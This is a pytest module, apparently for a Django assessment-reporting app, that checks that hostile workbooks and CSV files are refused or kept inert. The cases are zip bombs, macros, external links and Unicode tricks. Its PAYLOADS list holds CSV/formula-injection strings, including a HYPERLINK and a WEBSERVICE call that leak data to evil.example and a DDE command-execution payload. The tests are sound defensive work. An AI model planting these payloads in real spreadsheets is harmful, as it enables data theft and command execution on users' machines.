"""Hostile workbooks through the real template upload, the web sheet import and
`chiso import-sheet`: refused with a Vietnamese message before any parser opens them, and
nothing written (entries, revision, audit log). Formulas are never evaluated: where a number,
yes/no or choice is expected they are refused with row and column; in free text (owner,
note) they are kept as inert text — chiso never evaluates them and exports neutralise them."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook

from chiso.accounts.choices import Role
from chiso.accounts.models import AuditEvent
from chiso.accounts.services import add_member, create_user
from chiso.collection.models import Assessment, Entry
from chiso.collection.services import ensure_period, open_assessments
from chiso.exports.template import DATA_SHEET
from chiso.exports.tests.cast import Cast
from chiso.exports.tests.test_template_round_trip import (
    download,
    put,
    row_of,
    save,
    state,
    upload,
)
from chiso.frameworks.models import FrameworkVersion
from chiso.lib.testing import ledger
from chiso.lib.tests import hostile
from chiso.org.models import Unit

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/leak")',
]


# --- the template upload -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("attack", "build", "words"),
    [
        ("zip bomb", lambda: hostile.bomb(120), "bom nén"),
        ("xlsx with macros", hostile.xlsm, "có macro"),
        ("xlsx with macros", hostile.macro_type_only, "có macro"),
        ("xlsx with external links", hostile.external_link, "nguồn dữ liệu bên ngoài"),
        ("zip with lying sizes", hostile.lying, "không đúng kích thước đã khai"),
    ],
)
@pytest.mark.django_db
def test_a_hostile_workbook_uploaded_as_the_template_is_refused_and_changes_nothing(
    cast: Cast, client: Client, attack: str, build: Any, words: str
) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    if build in (hostile.xlsm, hostile.macro_type_only, hostile.external_link):
        data = build(save(download(client, cast.assessment)))  # the real template, tampered
    else:
        data = build()
    before = state(cast.assessment)
    response = upload(client, cast.assessment, data)
    assert response.status_code == 400
    assert any(words in p for p in response.context["problems"])
    assert state(cast.assessment) == before
    ledger.attack(f"hostile file: {attack}", 1)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.django_db
def test_formula_payloads_in_value_cells_are_refused_with_row_and_column(
    cast: Cast, client: Client, payload: str
) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    cells = [("1.3", "count"), ("1.2", "value"), ("2.1", "choice")]
    put(book, {cell: payload for cell in cells})
    rows = {row_of(book[DATA_SHEET], *cell) for cell in cells}
    before = state(cast.assessment)
    response = upload(client, cast.assessment, save(book))
    assert response.status_code == 400
    errors = {(e.row, e.column, e.message) for e in response.context["errors"]}
    assert errors == {(row, "Giá trị", "ô chứa công thức, hãy nhập giá trị") for row in rows}
    assert state(cast.assessment) == before
    ledger.attack("hostile file: formula payload in a value cell", len(cells))


@pytest.mark.django_db
def test_nfd_and_zero_width_codes_in_the_template_match_the_nfc_indicator(
    cast: Cast, client: Client
) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    sheet = book[DATA_SHEET]
    put(book, {("1.3", "count"): 15})
    sheet.cell(row_of(sheet, "1.3", "count"), 1, "1.3\u200b\ufeff")
    response = upload(client, cast.assessment, save(book))
    assert response.status_code == 200, response.context.get("errors")
    assert {(c.code, c.new) for c in response.context["changes"]} == {("1.3", 15)}
    ledger.attack("unicode trick: NFD or invisible characters", 1)


# --- the tracking-sheet import (web and CLI) ------------------------------------------------


@pytest.fixture
def assessment(tayninh: FrameworkVersion, can_giuoc: Unit) -> Assessment:
    (opened,) = open_assessments(tayninh, ensure_period("2025"), [can_giuoc], "test")
    return opened


def reporter(unit: Unit) -> User:
    user = create_user("cangiuoc", "mật-khẩu-dài-2025", "test")
    add_member(user, unit, Role.REPORTER, "test")
    return user


def sheet(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    active = book.active
    assert active is not None
    active.append(["Mã", "Tự đánh giá", "Phụ trách", "Ghi chú"])
    for row in rows:
        active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def post_sheet(client: Client, assessment: Assessment, data: bytes, name: str) -> Any:
    handle = io.BytesIO(data)
    handle.name = name
    return client.post(reverse("exports:sheet", args=[assessment.pk]), {"file": handle})


def written(assessment: Assessment) -> tuple[Any, ...]:
    entries = Entry.objects.filter(assessment=assessment).exclude(self_inputs={})
    return entries.count(), AuditEvent.objects.count()


HOSTILE_SHEETS = [
    ("zip bomb", lambda: hostile.bomb(120), "bang.xlsx", "bom nén"),
    ("xlsx with macros", lambda: hostile.xlsm(sheet([["1.1", 5]])), "bang.xlsx", "có macro"),
    ("xlsx with macros", lambda: hostile.xlsm(sheet([["1.1", 5]])), "bang.xlsm", ".xlsm"),
    (
        "xlsx with external links",
        lambda: hostile.external_link(sheet([["1.1", 5]])),
        "bang.xlsx",
        "bên ngoài",
    ),
]


@pytest.mark.parametrize(("attack", "build", "name", "words"), HOSTILE_SHEETS)
@pytest.mark.django_db
def test_a_hostile_tracking_sheet_is_refused_from_the_web_and_writes_nothing(
    assessment: Assessment, can_giuoc: Unit, attack: str, build: Any, name: str, words: str
) -> None:
    client = Client()
    client.force_login(reporter(can_giuoc))
    before = written(assessment)
    response = post_sheet(client, assessment, build(), name)
    assert response.status_code == 400
    assert any(words in p for p in response.context["problems"])
    assert written(assessment) == before
    ledger.attack(f"hostile file: {attack}", 1)


@pytest.mark.parametrize(("attack", "build", "name", "words"), HOSTILE_SHEETS)
@pytest.mark.django_db
def test_a_hostile_tracking_sheet_is_refused_by_chiso_import_sheet(
    assessment: Assessment,
    tmp_path: Path,
    attack: str,
    build: Any,
    name: str,
    words: str,
) -> None:
    path = tmp_path / name
    path.write_bytes(build())
    before = written(assessment)
    args = ["import_sheet", str(path), "--framework", "tayninh-commune-2026"]
    with pytest.raises(CommandError) as caught:
        call_command(*args, "--unit", "tay-ninh.xa-can-giuoc", "--period", "2025")
    err = str(caught.value)
    assert "Tệp bị từ chối, không có gì thay đổi" in err and words in err
    assert written(assessment) == before
    ledger.attack(f"hostile file: {attack}", 1)


@pytest.mark.django_db
def test_a_formula_where_a_score_is_expected_is_refused_with_row_and_column(
    assessment: Assessment, can_giuoc: Unit
) -> None:
    client = Client()
    client.force_login(reporter(can_giuoc))
    data = sheet([["1.1", payload] for payload in PAYLOADS[:1]] + [["1.2", PAYLOADS[1]]])
    response = post_sheet(client, assessment, data, "bang.xlsx")
    assert response.status_code == 400
    problems = response.context["problems"]
    assert 'Dòng 2, cột "Tự đánh giá": ô chứa công thức, hãy nhập giá trị' in problems
    assert 'Dòng 3, cột "Tự đánh giá": ô chứa công thức, hãy nhập giá trị' in problems
    assert written(assessment) == (0, AuditEvent.objects.count())
    ledger.attack("hostile file: formula payload in a value cell", 2)


@pytest.mark.django_db
def test_formula_text_in_a_note_is_kept_as_inert_text_and_nfd_codes_match(
    assessment: Assessment, can_giuoc: Unit, tmp_path: Path
) -> None:
    path = tmp_path / "bang.csv"
    code = "1\u200b.1\u202e"  # zero-width space and a right-to-left override in the code
    owner = "Pho\u0301 chu\u0309 ti\u0323ch"  # "Phó chủ tịch" typed decomposed
    path.write_text(f'Mã,Tự đánh giá,Phụ trách,Ghi chú\n{code},5,{owner},"{PAYLOADS[1]}"\n')
    args = ["import_sheet", str(path), "--framework", "tayninh-commune-2026"]
    call_command(*args, "--unit", "tay-ninh.xa-can-giuoc", "--period", "2025")
    entry = assessment.entries.get(indicator__code="1.1")
    assert entry.self_inputs == {"points": 5}
    assert (entry.owner, entry.note) == ("Phó chủ tịch", PAYLOADS[1])
    ledger.attack("hostile file: formula payload in a text cell", 1)
    ledger.attack("unicode trick: NFD or invisible characters", 2)


@pytest.mark.django_db
def test_codes_that_differ_only_by_invisible_characters_are_duplicates(
    assessment: Assessment, tmp_path: Path
) -> None:
    path = tmp_path / "bang.csv"
    path.write_text("Mã,Tự đánh giá\n1.1,5\n1.1\u200d,6\n")
    args = ["import_sheet", str(path), "--framework", "tayninh-commune-2026"]
    with pytest.raises(CommandError) as caught:
        call_command(*args, "--unit", "tay-ninh.xa-can-giuoc", "--period", "2025")
    assert "mã 1.1 trùng với dòng 2" in str(caught.value)
    assert written(assessment)[0] == 0
    ledger.attack("unicode trick: look-alike duplicate code", 1)
